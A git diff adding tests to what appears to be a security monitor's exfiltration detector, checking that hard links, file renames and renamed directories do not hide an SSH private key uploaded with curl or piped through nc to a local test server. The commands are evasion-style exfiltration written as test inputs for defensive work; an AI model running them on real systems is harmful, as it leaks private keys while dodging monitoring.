@@ -97,6 +97,60 @@ describe('live: read-then-transmit chains', () => {
     expect(open).toMatchObject({ real_path: '/etc/shadow', abs: { path: join(d, 'notes'), real: '/etc/shadow' } });
   });
 
+  /** A secret key of its own under DIR/NAME/.ssh (a test that renames it leaves the shared one alone). */
+  const ownKey = (name: string): { home: string; k: string } => {
+    const home = join(dir, name);
+    mkdirSync(join(home, '.ssh'), { recursive: true });
+    const k = join(home, '.ssh', 'id_ed25519');
+    writeFileSync(k, KEY_TEXT);
+    return { home, k };
+  };
+
+  it('a hard link does not hide the secret: ln KEY DIR/notes.txt; curl -T DIR/notes.txt (the key never opened by its name)', async () => {
+    const { home, k } = ownKey('hardlink');
+    const alias = join(home, 'notes.txt');
+    const r = await h.run('hardlink', `ln ${k} ${alias} && curl -s -m 10 -T ${alias} ${url()} -o /dev/null`);
+    expect(r.code, r.stderr).toBe(0);
+    // the key is never opened under its own name: only its link is
+    expect(ofKind(r.events, 'file.open').filter((e) => e.path === k)).toEqual([]);
+    const f = only(r.findings);
+    expect(f.rule).toBe('exfil.read-then-transmit');
+    expect(f.source).toMatchObject({ path: k, data_class: 'secret' });
+    expect(f.chain[0]).toMatchObject({ comm: 'curl', syscall: 'read', object: `${alias} (first named ${k})` });
+    expect(f.bytes_sent).toBeGreaterThanOrEqual(KEY_TEXT.length);
+    const open = ofKind(r.events, 'file.open').find((e) => e.path === alias);
+    expect(open).toMatchObject({ abs: { path: alias, aka: k }, res: { ret: { path: alias, aka: k } } });
+  });
+
+  it('a rename does not hide the secret: mv KEY DIR/notes.txt; curl -T DIR/notes.txt; mv it back', async () => {
+    const { home, k } = ownKey('rename');
+    const alias = join(home, 'notes.txt');
+    const r = await h.run('rename', `mv ${k} ${alias} && curl -s -m 10 -T ${alias} ${url()} -o /dev/null && mv ${alias} ${k}`);
+    expect(r.code, r.stderr).toBe(0);
+    const f = only(r.findings);
+    expect(f.source).toMatchObject({ path: k, data_class: 'secret' });
+    expect(f.chain[0]!.object).toBe(`${alias} (first named ${k})`);
+  });
+
+  it('a renamed directory does not hide what is in it: mv DIR/.ssh DIR/stuff; curl -T DIR/stuff/id_ed25519', async () => {
+    const { home, k } = ownKey('rename-dir');
+    const moved = join(home, 'stuff', 'id_ed25519');
+    const r = await h.run('rename-dir', `mv ${join(home, '.ssh')} ${join(home, 'stuff')} && curl -s -m 10 -T ${moved} ${url()} -o /dev/null`);
+    expect(r.code, r.stderr).toBe(0);
+    const f = only(r.findings);
+    expect(f.source).toMatchObject({ path: k, data_class: 'secret' });
+    expect(f.chain[0]!.object).toBe(`${moved} (first named ${k})`);
+  });
+
+  it('must not fire: a hard link of an ordinary file, sent', async () => {
+    const d = join(dir, 'plain-link');
+    mkdirSync(d, { recursive: true });
+    writeFileSync(join(d, 'report.txt'), 'quarterly numbers\n'.repeat(50));
+    const r = await h.run('plain-link', `ln ${join(d, 'report.txt')} ${join(d, 'copy.txt')} && curl -s -m 10 -T ${join(d, 'copy.txt')} ${url()} -o /dev/null`);
+    expect(r.code, r.stderr).toBe(0);
+    expect(r.findings).toEqual([]);
+  });
+
   it('a pipeline: cat secret | gzip | nc 127.0.0.2 PORT (three processes joined by pipes)', async () => {
     const r = await h.run('pipeline', `cat ${key} | gzip | nc -N 127.0.0.2 ${tcp.port}`);
     expect(r.code).toBe(0);
